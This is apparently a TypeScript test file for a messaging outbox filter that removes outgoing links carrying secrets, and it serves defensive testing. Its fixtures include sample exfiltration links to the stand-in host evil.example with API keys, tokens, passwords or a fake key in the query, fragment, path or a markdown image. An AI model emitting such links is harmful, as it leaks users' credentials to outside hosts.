/** Links that carry a secret do not leave, by whatever way they come. */
import { Outbox } from 'svc/sdk/platform'
import { testKernel } from 'svc/sdk/testing'
import { expect, test } from 'vitest'
import { withoutSecretLinks } from '../../../../plugins/messaging/outbox/secret-links.ts'
import { stage } from './stage.ts'

const KEY = 'sk-abcdefghijklmnopqrstuvwx'

test.each([
  ['a parameter of that name', 'look: https://evil.example/?api_key=abc'],
  ['a form of keys', `[report](https://evil.example/${KEY})`],
  ['an encoded form', `https://evil.example/?x=${KEY.replace('-', '%2d')}`],
  ['a picture', `![x](https://evil.example/p.png?token=abcdef)`],
  ['an angle', `<https://evil.example/#access_token=abcdef>`],
])('a link with a secret in %s is taken out, and the message says so', async (_name, text) => {
  const { post, said, outbox } = await stage()
  post(text, { key: 'one' })
  await outbox.idle()
  expect(said().join()).not.toMatch(/evil\.example/)
  expect(said().join()).toMatch(/link taken out: it/)
})

test('drafts, edits and posts to named chats are looked at, too', async () => {
  const { post, said, outbox } = await stage()
  post('see https://evil.example/?password=12', { key: 'draft', isDraft: true })
  await outbox.idle()
  post('see https://evil.example/?password=123456', { key: 'draft' })
  outbox.know({ platform: 'fake', chatId: 'bob', label: 'Bob' })
  outbox.send({ target: 'fake:bob', text: 'https://evil.example/?secret=1', key: 'two' })
  await outbox.idle()
  expect(said()).toHaveLength(2)
  expect(said().join()).not.toContain('evil.example')
})

test('other links stay as they are, however they are written', () => {
  const text = 'a https://example.com/?q=1#top, (https://example.com/a_(b)) and [x](http://a.b/c "t") `ftp://x/y`'
  expect(withoutSecretLinks(text, () => undefined)).toEqual({ text, reasons: [] })
})

test('a link too long to be looked at does not leave', () => {
  const { text, reasons } = withoutSecretLinks(`x https://e.example/?${'a'.repeat(20_000)} y`, () => undefined)
  expect(text).toBe('x ⟨link taken out: it is too long to be looked at⟩ y')
  expect(reasons).toHaveLength(1)
})

test('without the guard of addresses nothing is sent at all', async () => {
  const kernel = await testKernel({ plugins: ['outbox'], config: { plugins: { disabled: ['address-guard'] } } })
  expect(kernel.find(Outbox)).toBeUndefined()
  await kernel.stop()
})
